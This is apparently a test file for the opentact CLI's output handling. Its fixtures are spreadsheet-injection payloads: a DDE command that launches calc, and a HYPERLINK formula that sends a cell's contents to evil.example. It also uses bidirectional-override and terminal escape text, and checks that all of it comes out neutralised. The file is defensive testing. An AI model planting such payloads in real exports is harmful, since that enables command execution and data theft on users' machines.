-- What the opentact command writes, as a spreadsheet, a terminal, a JSON
-- reader and a shell see it: CSV and TSV cells that a spreadsheet would
-- run as formulas begin with ', server text never reaches a terminal as
-- raw control or bidirectional characters, --format json keeps {} and [],
-- and output that could not be written is an error (a reader that closes
-- the pipe early ends the command quietly).
local support = require("emulator")
local cjson = require("cjson")
local cmdline = require("cli")
local opentact = require("opentact")

local lines_of, csv, tsv, sink = cmdline.lines_of, cmdline.csv, cmdline.tsv, cmdline.sink

-- U+202E RIGHT-TO-LEFT OVERRIDE, U+2066 LEFT-TO-RIGHT ISOLATE, U+200F
-- RIGHT-TO-LEFT MARK and U+0085 NEXT LINE (a C1 control), as UTF-8.
local RLO, LRI, RLM, NEL = "\226\128\174", "\226\129\166", "\226\128\143", "\194\133"

describe("the opentact command's output #wire", function()
  local emu, conns, leases

  setup(function()
    emu, conns, leases = support.start_with_uuids({ leases = 30 })
  end)
  teardown(function() if emu then emu:stop() end end)
  before_each(function() emu:reset() end)

  -- bin/opentact with `args` (shell words), standard output sent where
  -- `to` says: captured (nil), "> FILE", or "| COMMAND" (a reader; then
  -- `signal` is "default" or "ignore", SIGPIPE's disposition for the
  -- command). Returns standard output (when captured), standard error and
  -- the exit status.
  local function run(args, to, signal) return cmdline.opentact(emu, args, { to = to, signal = signal }) end

  -- The next answer of the emulator: status 200 and `payload` (JSON text).
  local function answer(payload)
    local status = emu:faults({ { status = 200, ctype = "application/json",
      raw = '{"success":true,"payload":' .. payload .. "}" } })
    assert.equals(200, status)
  end

  -- cli.main in this process.
  local function main(args, ctx) return cmdline.main(emu, args, ctx) end

  -- Leases whose text fields hold what a spreadsheet runs: a formula, DDE,
  -- an @ function; -5 is a JSON number.
  local HOSTILE = {
    { expired_on = '=HYPERLINK("http://evil.example/?x="&A1,"renew")',
      sip_connection = { uuid = "=cmd|' /C calc'!A0" }, sip_control_app = { uuid = "@SUM(1)" }, tn = -5 },
    { expired_on = "+1+1", sip_connection = { uuid = "-2+3" }, sip_control_app = { uuid = "\t=1+1" }, tn = 12125550001 },
    { expired_on = "\r=1+1", sip_connection = { uuid = "1=1" }, sip_control_app = { uuid = "a@b" }, tn = 12125550002 },
  }
  local function hostile_payload()
    local out = {}
    for i, l in ipairs(HOSTILE) do
      out[i] = cjson.encode({ uuid = leases[i], expired_on = l.expired_on, autorenew = true,
        tn = { tn = l.tn }, sip_connection = l.sip_connection, sip_control_app = l.sip_control_app })
    end
    return "[" .. table.concat(out, ",") .. "]"
  end

  describe("csv and tsv", function()
    it("begin a text cell that starts with =, +, -, @, tab or CR with ', numbers stay numbers", function()
      for _, f in ipairs({ { "csv", csv, "\t", "\r" }, { "tsv", tsv, "\\t", "\\r" } }) do
        answer(hostile_payload())
        local out, err, status = run("list " .. conns[1] .. " --format " .. f[1])
        assert.equals(0, status, err)
        local rows = lines_of(out)
        assert.equals(4, #rows, out)
        assert.same({ "uuid", "number", "expires", "autorenew", "sip_connection", "sip_control_app" }, f[2](rows[1]))
        assert.same({ leases[1], "-5", "'" .. HOSTILE[1].expired_on, "true", "'=cmd|' /C calc'!A0", "'@SUM(1)" },
          f[2](rows[2]))
        assert.same({ leases[2], "12125550001", "'+1+1", "true", "'-2+3", "'" .. f[3] .. "=1+1" }, f[2](rows[3]))
        -- only the first character counts
        assert.same({ leases[3], "12125550002", "'" .. f[4] .. "=1+1", "true", "1=1", "a@b" }, f[2](rows[4]))
      end
    end)

    it("begin an error message cell from the server with ' too", function()
      -- the add is refused with the server's message (after the lease's
      -- lookup, which goes through)
      emu:faults({ {}, { status = 400, message = "=HYPERLINK(\"http://evil.example\",\"retry\")" } })
      local out, err, status = run(("assign %s --add %s --batch-size 1 --format csv"):format(
        conns[2], leases[20]))
      assert.equals(1, status, err)
      local rows = lines_of(out)
      assert.equals(2, #rows, out)
      local row = csv(rows[2])
      assert.same({ leases[20], "add", "failed", "rejected", "400" }, { row[1], row[3], row[4], row[5], row[6] })
      assert.equals("'=HYPERLINK(\"http://evil.example\",\"retry\")", row[7])

      emu:faults({ {}, { status = 400, message = "@SUM(1)\t-1" } })
      out, err, status = run(("assign %s --add %s --batch-size 1 --format tsv"):format(conns[2], leases[20]))
      assert.equals(1, status, err)
      assert.equals("'@SUM(1)\\t-1", tsv(lines_of(out)[2])[7])
    end)
  end)

  describe("server text", function()
    local TEXT = "ok" .. RLO .. "fdp.exe" .. LRI .. "x" .. RLM .. NEL .. "\27[31mred"
    local SHOWN = "ok\\u{202E}fdp.exe\\u{2066}x\\u{200F}\\u{0085}\\027[31mred"

    local function raw_in(s)
      for _, c in ipairs({ RLO, LRI, RLM, NEL, "\27" }) do
        if s:find(c, 1, true) then return c end
      end
      return nil
    end

    it("is shown escaped in tables, never as raw bidi or control characters", function()
      answer(cjson.encode({ { uuid = leases[1], expired_on = TEXT, tn = { tn = 12125550001 }, autorenew = false } }))
      local out, err, status = run("list " .. conns[1])
      assert.equals(0, status, err)
      assert.is_nil(raw_in(out))
      assert.matches(SHOWN, out, 1, true)

      -- a number that is text
      answer(cjson.encode({ { uuid = leases[1], tn = { tn = "1212" .. RLO .. "5550001" } } }))
      out, err, status = run("list " .. conns[1])
      assert.equals(0, status, err)
      assert.is_nil(raw_in(out))
      assert.matches("1212\\u{202E}5550001", out, 1, true)

      -- find's table, and a lease of a number
      answer(cjson.encode({ uuid = leases[2], tn = { tn = 12125550002 }, sip_connection = { uuid = TEXT } }))
      out, err, status = run("find 12125550002")
      assert.equals(0, status, err)
      assert.is_nil(raw_in(out))
      assert.matches("connection " .. SHOWN, out, 1, true)
    end)

    it("is shown escaped in csv and tsv; json keeps it, as \\u escapes", function()
      for _, f in ipairs({ "csv", "tsv", "json", "jsonl" }) do
        answer(cjson.encode({ { uuid = leases[1], expired_on = TEXT, tn = { tn = 12125550001 } } }))
        local out, err, status = run("list " .. conns[1] .. " --format " .. f)
        assert.equals(0, status, err)
        assert.is_nil(raw_in(out), f)
        if f == "json" then
          assert.equals(TEXT, cjson.decode(out)[1].expired_on)
        elseif f == "jsonl" then
          assert.equals(TEXT, cjson.decode(out).expired_on)
        else
          assert.matches(SHOWN, out, 1, true)
        end
      end
    end)

    it("in an error message is shown escaped on standard error", function()
      emu:faults({ { status = 404, message = "not " .. RLO .. "found" .. NEL } })
      local out, err, status = run("list " .. conns[1])
      assert.equals(1, status)
      assert.equals("", out)
      assert.is_nil(raw_in(err))
      assert.matches("not \\u{202E}found\\u{0085}", err, 1, true)
    end)
  end)

  describe("--format json", function()
    -- keys sorted, no spaces: the form the command writes
    local LEASE = '{"account":{},"autorenew":true,"features":[],"meta":{"a":{},"b":[],"c":[[],{}],"d":[{"e":{}}]},'
      .. '"tn":{"tn":12125550001},"uuid":"%s"}'

    it("keeps the server's empty objects {} and empty arrays [] as they were", function()
      local lease = LEASE:format(leases[1])
      answer("[" .. lease .. "]")
      local out, err, status = run("list " .. conns[1] .. " --format json")
      assert.equals(0, status, err)
      assert.equals("[" .. lease .. "]\n", out)

      answer("[" .. lease .. "]")
      out, err, status = run("list " .. conns[1] .. " --format jsonl")
      assert.equals(0, status, err)
      assert.equals(lease .. "\n", out)

      -- one lease (find by number) and a search page (find by mask)
      answer(lease)
      out, err, status = run("find 12125550001 --format json")
      assert.equals(0, status, err)
      assert.equals("[" .. lease .. "]\n", out)
      answer('{"take":100,"skip":0,"total":1,"data":[' .. lease .. ']}')
      out, err, status = run("find '+1 212 555 000*' --format json")
      assert.equals(0, status, err)
      assert.equals("[" .. lease .. "]\n", out)

      -- an object whose members were all null is still an object
      answer(('[{"account":{"x":null},"tn":{"tn":12125550001},"uuid":"%s"}]'):format(leases[1]))
      out = run("list " .. conns[1] .. " --format json")
      assert.equals(('[{"account":{},"tn":{"tn":12125550001},"uuid":"%s"}]\n'):format(leases[1]), out)
    end)

    it("an empty list of leases is [] and the command's own empty lists too", function()
      answer("[]")
      local out, err, status = run("list " .. conns[1] .. " --format json")
      assert.equals(0, status, err)
      assert.equals("[]\n", out)
    end)

    it("the library marks decoded empty objects with opentact.Object; arrays and filled objects carry none #c", function()
      assert.is_table(opentact.Object)
      answer("[" .. LEASE:format(leases[1]) .. "]")
      local list = assert(emu:client():list(conns[1]))
      local l = list[1]
      assert.equals(opentact.Object, getmetatable(l.account))
      assert.equals(opentact.Object, getmetatable(l.meta.a))
      assert.equals(opentact.Object, getmetatable(l.meta.c[2]))
      assert.equals(opentact.Object, getmetatable(l.meta.d[1].e))
      assert.is_nil(getmetatable(l.features))
      assert.is_nil(getmetatable(l.meta.b))
      assert.is_nil(getmetatable(l.meta.c[1]))
      assert.is_nil(getmetatable(l.meta))
      assert.is_nil(getmetatable(l.tn))
      -- still a plain, empty table
      assert.is_nil(next(l.account))
      assert.equals(0, #l.account)
    end)
  end)

  describe("a write that fails", function()
    -- over 64 KiB (a pipe's buffer) and over stdio's buffer
    local function big_payload()
      return cjson.encode({ { uuid = leases[1], tn = { tn = 12125550001 }, note = ("x"):rep(300000) } })
    end

    it("to a full disk exits 1 with a message, whether stdio's buffer was written or not", function()
      for _, args in ipairs({ "list " .. conns[1], "list " .. conns[1] .. " --format csv",
        "list " .. conns[1] .. " --format json", "big", "--help", "--version", "help list" }) do
        if args == "big" then
          answer(big_payload())
          args = "list " .. conns[1] .. " --format json"
        end
        local _, err, status = run(args, "> /dev/full")
        assert.equals(1, status, args .. ": " .. err)
        assert.matches("^opentact: could not write the output: No space left on device", err)
        assert.is_nil(err:find("traceback", 1, true), err)
      end
    end)

    it("keeps a failing command's own status, and says the output is incomplete", function()
      local _, err, status = run("list --no-such-option --format json", "> /dev/full")
      assert.equals(2, status, err)
      assert.matches("could not write the output", err)
    end)

    for _, signal in ipairs({ "default", "ignore" }) do
      it("into a pipe its reader closed ends quietly with status 141 (SIGPIPE " .. signal .. ")", function()
        answer(big_payload())
        local out, err, status = run("list " .. conns[1] .. " --format json", "| head -c 1", signal)
        assert.equals("[", out)
        assert.equals("", err)
        assert.equals(141, status)
      end)
    end

    it("in cli.main: a failed write is an error, a closed pipe is quiet #c", function()
      local function failing(message, errno)
        return { write = function() return nil, message, errno end, flush = function() return true end }
      end
      local _, err, status = main({ "--version" }, { stdout = failing("No space left on device", 28) })
      assert.equals(1, status)
      assert.equals("opentact: could not write the output: No space left on device\n", err)
      _, err, status = main({ "--version" }, { stdout = failing("Broken pipe", 32) })
      assert.equals(141, status)
      assert.equals("", err)
      -- a flush that fails: the same
      local out = sink()
      out.flush = function() return nil, "Input/output error", 5 end
      _, err, status = main({ "--version" }, { stdout = out })
      assert.equals(1, status)
      assert.equals("opentact: could not write the output: Input/output error\n", err)
    end)
  end)
end)

describe("core.isatty #c", function()
  local core = require("opentact.core")

  -- What core.isatty(1) says in a Lua whose standard output goes through
  -- `shell` (a command line around the word LUA).
  local function isatty_through(shell)
    local lua = ("%s -e 'io.write(tostring(require[[opentact.core]].isatty(1)))'"):format(support.LUA)
    return (support.sh((shell:gsub("LUA", function() return lua end))))
  end

  it("says whether a descriptor is a terminal, in this process and through a pty", function()
    assert.is_false(core.isatty(-1))
    assert.is_false(core.isatty(1048575)) -- not open
    assert.equals("false", isatty_through("LUA | cat"))
    -- `script` runs the command on a pseudo-terminal
    local out = isatty_through("SHELL=/bin/sh script -qfec \"LUA\" /dev/null")
    assert.truthy(out:find("true", 1, true), out)
  end)

  it("raises on what is not a descriptor number", function()
    assert.has_error(function() core.isatty("one") end)
    assert.has_error(function() core.isatty() end)
  end)
end)
